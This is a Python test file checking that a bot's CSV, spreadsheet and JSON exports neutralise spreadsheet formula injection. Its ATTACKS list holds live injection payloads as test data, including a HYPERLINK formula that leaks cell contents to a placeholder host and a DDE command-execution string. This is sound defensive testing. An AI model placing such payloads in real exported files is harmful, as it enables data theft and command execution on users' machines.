"""No cell is ever taken for a formula, whatever somebody wrote, and nothing of what they wrote is lost."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from bot.exports.as_json import JsonFile
from bot.exports.csv_text import csv_of
from bot.exports.files import Archive
from bot.exports.tables import File, Row, Table, neutral
from bot.exports.workbook import Workbook
from bot.exports.writing import Form

STARTS = "=+-@\t\r\n＝＋－＠"
FRONT = st.text(" ", max_size=3)
WORDS = st.text(st.characters(exclude_categories=("Cs",)), max_size=30)
FORMULA = st.builds(lambda front, start, rest: front + start + rest, FRONT, st.sampled_from(STARTS), WORDS)
QUOTED = st.builds(lambda quote, text: quote + text, st.sampled_from(["'", '"', '"""', "',", '";']), FORMULA)
ANYTHING = st.one_of(FORMULA, QUOTED, WORDS)
ATTACKS = (
    '=HYPERLINK("http://x.example/?"&A1)',
    "+44 1632 960 101",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "  =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "＝1+1",
    '"=1+1"',
    '",=1+1,"',
    "ok\n=1+1",
    "{=1+1}",
    "_x003D_1+1",
    "http://x.example",
    "mailto:a@x.example",
    "12/11/2026",
    "007",
    "1e9",
    "TRUE",
    "#REF!",
)


CELLS = st.one_of(ANYTHING, st.none(), st.integers(), st.floats(allow_nan=False), st.dates())


@given(st.lists(st.tuples(CELLS, CELLS, ANYTHING, st.dates(), WORDS), min_size=1, max_size=30))
def test_csv_reads_back_as_it_was_with_formulas_made_harmless(rows: list[Row]) -> None:
    peer = io.StringIO()
    csv.writer(peer, lineterminator="\r\n").writerows([neutral(cell) for cell in row] for row in rows)
    written = csv_of(rows).decode()
    assert written == peer.getvalue()
    assert [len(row) for row in csv.reader(io.StringIO(written, newline=""))] == [5] * len(rows)


def explain(key: str) -> str:
    return f"=Meaning of {key}."


def file_of(*texts: str) -> File:
    rows = tuple((text, number) for number, text in enumerate(texts))
    return File("working", (("for", texts[0]),), (Table("words", ("words", "number"), rows),))


def filled(file: File, form: Form) -> None:
    for table in file.tables:
        form.add(table.name, table.rows)
    form.finish()


def workbook_of(file: File) -> bytes:
    target = io.BytesIO()
    filled(file, Workbook(file, explain, target))
    return target.getvalue()


def archive_of(file: File) -> zipfile.ZipFile:
    target = io.BytesIO()
    filled(file, Archive(file, explain, target))
    return zipfile.ZipFile(target)


def in_csv(file: File) -> list[list[str]]:
    with archive_of(file) as archive:
        content = archive.read(f"{file.tables[0].name}.csv").decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content, newline=""), strict=True))


def harmless(cell: str) -> bool:
    """Whether a spreadsheet takes this for text: nothing that begins a formula comes first, nor after spaces."""
    return cell.lstrip(" ")[:1] not in set(STARTS)


@given(st.lists(ANYTHING, min_size=1, max_size=5))
def test_no_csv_cell_begins_a_formula_and_no_text_breaks_out_of_its_cell(texts: list[str]) -> None:
    first, *rows = in_csv(file_of(*texts))
    assert first == ["words", "number"]
    assert [row[1] for row in rows] == [str(number) for number in range(len(texts))]
    for text, (cell, _) in zip(texts, rows, strict=True):
        assert harmless(cell)
        assert cell in {text, f"'{text}"}


@given(WORDS.filter(harmless))
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert in_csv(file_of(text))[1][0] == text


@given(st.lists(ANYTHING, min_size=1, max_size=5))
def test_every_workbook_cell_is_text_or_a_number_and_holds_all_that_was_said(texts: list[str]) -> None:
    book = load_workbook(io.BytesIO(workbook_of(file_of(*texts))))
    sheet = book["words"]
    for number, text in enumerate(texts):
        cell, count = sheet.cell(number + 2, 1), sheet.cell(number + 2, 2)
        assert (count.value, count.data_type) == (number, "n")
        shown = cell.value or ""
        assert cell.data_type == "s" or not shown
        assert harmless(shown)
        assert _same(shown, text) or _same(shown, f"'{text}")


def _same(shown: str, text: str) -> bool:
    """Whether a cell shows a text: XML cannot hold some signs, which a workbook writes by their number."""
    for number in (*range(9), 11, 12, *range(13, 32), 0xFFFE, 0xFFFF):
        text = text.replace(chr(number), f"_x{number:04X}_")
    return shown == text or unescape(shown) == unescape(text)


@pytest.mark.parametrize("text", ATTACKS)
def test_known_attacks_are_text_in_every_sheet_and_file(text: str) -> None:
    file = file_of(text)
    content = workbook_of(file)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = [parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/")]
        assert len(sheets) == 2
        assert [each for each in sheets if "<f>" in each or "<f " in each or "hyperlink" in each] == []
        assert not [name for name in parts.namelist() if "externalLink" in name or "vba" in name.lower()]
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        assert all(harmless(str(cell.value or "")) for row in sheet.iter_rows() for cell in row)
    with archive_of(file) as archive:
        tables = ["data_dictionary.csv", "words.csv"]
        assert sorted(archive.namelist()) == ["data_dictionary.csv", "datapackage.json", "words.csv", "working.json"]
        for name in tables:
            read = csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"), newline=""), strict=True)
            assert all(harmless(cell) for row in read for cell in row)


@pytest.mark.parametrize("text", ["007", "1e9", "TRUE", "12/11/2026", "#REF!", "http://x.example"])
def test_a_workbook_keeps_words_that_look_like_something_else(text: str) -> None:
    cell = load_workbook(io.BytesIO(workbook_of(file_of(text))))["words"]["A2"]
    assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)


@given(st.lists(ANYTHING, min_size=1, max_size=5))
def test_json_holds_each_text_as_it_was_said(texts: list[str]) -> None:
    file, target = file_of(*texts), io.BytesIO()
    filled(file, JsonFile(file, explain, target, io.BytesIO))
    found = json.loads(target.getvalue())
    assert found["about"] == {"for": texts[0]}
    assert found["tables"]["words"]["rows"] == [{"words": text, "number": n} for n, text in enumerate(texts)]
    assert [each["name"] for each in found["tables"]["words"]["columns"]] == ["words", "number"]


@pytest.mark.parametrize("in_a_folder", [False, True])
def test_a_table_that_is_too_long_for_a_sheet_goes_on_in_the_next(
    in_a_folder: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("bot.exports.workbook.MOST_ROWS", 3)
    file, target = file_of(*"abcdefg"), io.BytesIO()
    filled(file, Workbook(file, explain, target, str(tmp_path) if in_a_folder else None))
    book = load_workbook(target)
    rows = [[cell.value for cell in row] for name in ("words", "words_2", "words_3") for row in book[name].iter_rows()]
    assert [row for row in rows if row != ["words", "number"]] == [[sign, n] for n, sign in enumerate("abcdefg")]
    assert list(tmp_path.iterdir()) == [], "nothing is left behind"
